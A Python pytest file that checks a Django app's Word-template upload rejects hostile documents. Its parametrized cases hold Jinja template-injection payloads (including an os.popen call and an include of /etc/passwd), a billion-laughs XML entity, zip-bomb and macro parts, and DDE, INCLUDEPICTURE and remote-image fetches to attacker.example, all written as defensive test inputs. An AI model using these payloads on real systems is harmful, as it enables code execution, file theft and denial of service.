"""What somebody may put into a Word template: none of it runs, leaks, fetches or hangs."""

import time
import zipfile
from io import BytesIO

import pytest
from docx import Document

from organisations.models import Organisation
from requirements_bank.calculations.document_places import TemplateProblem, problems_of
from requirements_bank.document_templates.build import FILE
from requirements_bank.importers.docx_check import MOST_BYTES, check_docx
from requirements_bank.models import DocumentTemplate
from requirements_bank.reports.template_places import sample_context, schema_of
from requirements_bank.reports.word_child import environment
from requirements_bank.reports.word_process import fill_template
from requirements_bank.services.document_templates import upload_template
from requirements_bank.services.documents import TemplateNotPossibleError, filled_template
from tests.factories.baskets import word_file

MAIN = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def changed(content: bytes, name: str, old: bytes, new: bytes, **added: bytes) -> bytes:
    """A Word file with one part changed, and others added."""
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as before, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as after:
        for part in before.infolist():
            text = before.read(part)
            after.writestr(part.filename, text.replace(old, new) if part.filename == name else text)
        for path, text in added.items():
            after.writestr(path.replace("__", "/").replace("_dot_", "."), text)
    return made.getvalue()


@pytest.mark.parametrize(
    "written",
    [
        "{{ ''.__class__ }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ title.__class__ }}",
        "{{ title['__class__'] }}",
        "{{ title|attr('__class__') }}",
        "{{ sections.__init__ }}",
        "{{ self.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__ }}",
        "{{ config }}",
        "{{ request }}",
        "{{ loop }}",
        "{{ words.get('tag') }}",
        "{{ title.upper() }}",
        "{{ range(10) }}",
        "{{ namespace() }}",
        "{{ title * 1000000000 }}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ '%c' % 65 }}",
        "{{ title|safe }}",
        "{{ title|format(1) }}",
        "{{ title|map(attribute='__class__') }}",
        "{{ [title, title] }}",
        "{{ {'a': title} }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% from 'os' import popen %}",
        "{% extends 'base.html' %}",
        "{% set x = title %}",
        "{% macro x() %}{% endmacro %}",
        "{% call title() %}{% endcall %}",
        "{% filter upper %}x{% endfilter %}",
        "{% block x %}{% endblock %}",
        "{% with x = title %}{% endwith %}",
        "{{ sections }}",
        "{{ words }}",
        "{% for c in clauses %}{{ c }}{% endfor %}",
        "{% autoescape false %}{{ title }}{% endautoescape %}",
        "{% for x in range(1000000000) %}x{% endfor %}",
        "{% for x in 'aaaa' %}x{% endfor %}",
        "{% for x in title %}x{% endfor %}",
        "{% for x in sections recursive %}{{ loop(x) }}{% endfor %}",
        "{% for a, b in sections %}{% endfor %}",
        "{{ sections[0] }}",
        "{{ clauses|first|attr('x') }}",
        "{{ title|default(cycler) }}",
        "{{ title is sameas(title) }}",
    ],
)
def test_what_is_no_place_is_refused_before_anything_is_rendered(written: str) -> None:
    with pytest.raises(TemplateNotPossibleError):
        filled_template(word_file(written))
    assert problems_of(written, schema_of(sample_context()), environment())


def nested(depth: int) -> str:
    opened = "".join(f"{{% for c{number} in clauses %}}" for number in range(depth))
    return opened + "x" + "{% endfor %}" * depth


def test_loops_lie_at_most_three_within_each_other() -> None:
    assert problems_of(nested(3), schema_of(sample_context()), environment()) == []
    with pytest.raises(TemplateNotPossibleError, match="c3"):
        filled_template(word_file(nested(4)))


def test_loops_that_go_round_too_often_are_stopped() -> None:
    context = sample_context()
    context["clauses"] = context["clauses"] * 100
    begun = time.monotonic()
    filled = fill_template(
        word_file(nested(3)), schema=schema_of(sample_context()), context=context, language_tag="nb-NO"
    )

    assert filled.problems == (TemplateProblem("too_much"),)
    assert time.monotonic() - begun < 20


def test_a_file_that_keeps_the_reader_busy_is_stopped() -> None:
    busy = word_file("{%" * 1 + "<" * 10 + "{{ " + "x " * 200_000)
    begun = time.monotonic()
    with pytest.raises(TemplateNotPossibleError):
        filled_template(busy, seconds=4)
    assert time.monotonic() - begun < 15


def test_values_are_escaped() -> None:
    context = sample_context() | {"name": "</w:t></w:r><w:hacked/>"}
    filled = fill_template(
        word_file("{{ name }}"), schema=schema_of(sample_context()), context=context, language_tag="nb-NO"
    )
    assert Document(BytesIO(filled.document)).paragraphs[0].text == "</w:t></w:r><w:hacked/>"


def test_our_own_template_is_sound() -> None:
    content = FILE.read_bytes()

    assert check_docx(content) is None
    assert filled_template(content)


HEAD = b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>"
LAUGHS = HEAD + b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>'


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "not_word"),
        (b"PK\x03\x04 not really", "not_word"),
        (b"x" * (MOST_BYTES + 1), "too_large"),
        (
            changed(word_file("x"), MAIN, HEAD, LAUGHS),
            "declares_types",
        ),
        (changed(word_file("x"), MAIN, b"", b"", word__vbaProject_dot_bin=b"x"), "macros"),
        (
            changed(
                word_file("x"),
                "[Content_Types].xml",
                b"wordprocessingml.document.main+xml",
                b"wordprocessingml.template.main+xml",
            ),
            "not_word",
        ),
        (
            changed(
                word_file("x"),
                "[Content_Types].xml",
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
            "macros",
        ),
        (changed(word_file("x"), MAIN, b"", b"", word__embeddings__oleObject1_dot_bin=b"x"), "objects"),
        (changed(word_file("x"), MAIN, b"", b"", bomb_dot_bin=b"0" * (30 << 20)), "too_large_unpacked"),
        (changed(word_file("mine"), MAIN, b"mine", b"<w:altChunk/>"), "not_word"),  # within w:t it is no XML of its own
    ],
)
def test_a_file_that_is_no_plain_word_document_is_refused(content: bytes, code: str) -> None:
    found = check_docx(content)
    assert found == code or (code == "not_word" and found == "objects")


def linked(kind: str, target: str = "http://attacker.example/x.png") -> bytes:
    link = (
        f'<Relationship Id="rId99" Type="{HYPERLINK}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return changed(word_file("x"), RELATIONS, b"</Relationships>", link.encode())


@pytest.mark.parametrize("kind", ["image", "oleObject", "frame", "subDocument", "aFChunk", "mailMergeSource"])
def test_what_word_would_fetch_is_refused(kind: str) -> None:
    assert check_docx(linked(kind)) == "fetches"


def test_a_link_that_a_reader_clicks_on_is_fine() -> None:
    assert check_docx(linked("hyperlink")) is None


@pytest.mark.parametrize(
    "instructions", [['INCLUDEPICTURE "http://x"'], ["DDE", "AUTO c:\\\\x"], [' includetext "http://x" ']]
)
def test_fields_that_load_are_refused(instructions: list[str]) -> None:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    field = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    content = changed(word_file("mine"), MAIN, b"<w:r><w:t>mine</w:t></w:r>", field.encode())

    assert check_docx(content) == "fetches"
    page = changed(content, MAIN, instructions[0].encode(), b"PAGE ")
    assert check_docx(page) is None


INCLUDED = b'<w:hdr xmlns:w="x"><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://attacker.example/x&quot;"/></w:hdr>'
HEADER = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"


@pytest.mark.parametrize(
    "declared",
    [
        f'<Override PartName="/word/header9.bin" ContentType="{HEADER}"/>',
        f'<Override PartName="/word/header9.bin" ContentType="{HEADER.upper()}; charset=utf-8"/>',
        f'<Default Extension="bin" ContentType="{HEADER}"/>',
        '<Default Extension="bin" ContentType="text/xml"/>',
    ],
)
def test_xml_under_another_name_is_refused(declared: str) -> None:
    types = "[Content_Types].xml"
    for name, code in (("bin", "not_word"), ("xml", "fetches")):
        added = {f"word__header9_dot_{name}": INCLUDED}
        said = declared.replace("header9.bin", f"header9.{name}").replace('"bin"', f'"{name}"')
        assert check_docx(changed(word_file("x"), types, b"</Types>", f"{said}</Types>".encode(), **added)) == code


@pytest.mark.parametrize(
    ("drawn", "code"),
    [
        ('<v:imagedata src="http://attacker.example/x.png"/>', "fetches"),
        ('<v:imagedata src="\\\\attacker\\x.png"/>', "fetches"),
        ('<v:imagedata src="//attacker.example/x.png"/>', "fetches"),
        ('<v:imagedata src=" file:///etc/passwd"/>', "fetches"),
        ('<v:imagedata o:href="http://attacker.example/x.png"/>', "fetches"),
        ('<v:fill o:althref="http://attacker.example/x.png"/>', "fetches"),
        ('<v:imagedata src="rId4"/>', None),
        ('<v:shape href="http://neighbour.example/"/>', None),
    ],
)
def test_a_drawing_that_is_loaded_from_elsewhere_is_refused(drawn: str, code: str | None) -> None:
    names = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    picture = f"<w:r><w:pict {names}>{drawn}</w:pict></w:r>".encode()

    assert check_docx(changed(word_file("mine"), MAIN, b"<w:r><w:t>mine</w:t></w:r>", picture)) == code


def test_a_source_for_mail_merge_is_refused() -> None:
    merge = b'<w:mailMerge><w:query w:val="SELECT * FROM x"/></w:mailMerge></w:settings>'

    assert check_docx(changed(word_file("x"), "word/settings.xml", b"</w:settings>", merge)) == "fetches"


def test_a_declared_type_in_another_encoding_is_refused() -> None:
    head = "<?xml version='1.0' encoding='UTF-16' standalone='yes'?>"
    with zipfile.ZipFile(BytesIO(word_file("x"))) as archive:
        part = archive.read(MAIN)
    hidden = (head + LAUGHS.decode().removeprefix(HEAD.decode()) + part.decode().removeprefix(HEAD.decode())).encode(
        "utf-16"
    )

    assert check_docx(changed(word_file("x"), MAIN, part, hidden)) == "declares_types"


def test_a_template_file_elsewhere_is_cut_off() -> None:
    settings = "word/settings.xml"
    kind = f"{HYPERLINK}/attachedTemplate"
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{kind}" Target="http://attacker.example/a.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    attached = b'<w:attachedTemplate xmlns:r="' + HYPERLINK.encode() + b'" r:id="rId1"/></w:settings>'
    added = {"word___rels__settings_dot_xml_dot_rels": relations.encode()}
    content = changed(word_file("{{ title }}"), settings, b"</w:settings>", attached, **added)
    assert check_docx(content) is None

    with zipfile.ZipFile(BytesIO(filled_template(content))) as archive:
        assert not [name for name in archive.namelist() if b"attacker" in archive.read(name)]
        assert b"attachedTemplate" not in archive.read(settings)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "name"),
    [(word_file("{{ ''.__class__ }}"), "mal.docx"), (b"x", "mal.docx"), (FILE.read_bytes(), "mal.docm")],
)
def test_nothing_is_kept_of_a_template_that_cannot_be_used(
    at_work_in_ekby: Organisation, content: bytes, name: str
) -> None:
    with pytest.raises(TemplateNotPossibleError):
        upload_template(organisation=at_work_in_ekby, stream=BytesIO(content), file_name=name)
    assert not DocumentTemplate.objects.exists()
